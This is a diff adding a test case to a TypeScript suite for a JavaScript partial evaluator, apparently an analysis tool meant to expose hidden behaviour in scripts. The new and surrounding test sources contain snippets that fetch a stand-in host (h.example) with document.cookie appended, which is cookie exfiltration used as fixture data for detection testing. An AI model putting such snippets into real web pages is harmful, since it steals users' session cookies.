@@ -303,6 +303,16 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
       !function(){var m=(function(a,b){return a+b})('https://h.example','/y');fetch(m+document.cookie)}()`,
     has: ['setTimeout(atob("', 'var m="https://h.example/y"'],
   },
+  {
+    name: 'a flag a handler sets is not read as its initial value, also through a getter',
+    source: `let armed = false, n = 0; const isArmed = () => armed; function count() { return n }
+      document.addEventListener('change', function () { armed = true; n++ })
+      document.addEventListener('click', function () {
+        if (isArmed()) fetch('https://h.example/a?' + document.cookie)
+        if (count() > 2) fetch('https://h.example/b?' + document.cookie)
+      })`,
+    has: ["fetch('https://h.example/a?'", "fetch('https://h.example/b?'"],
+  },
 ]
 
 describe('partial evaluator', () => {
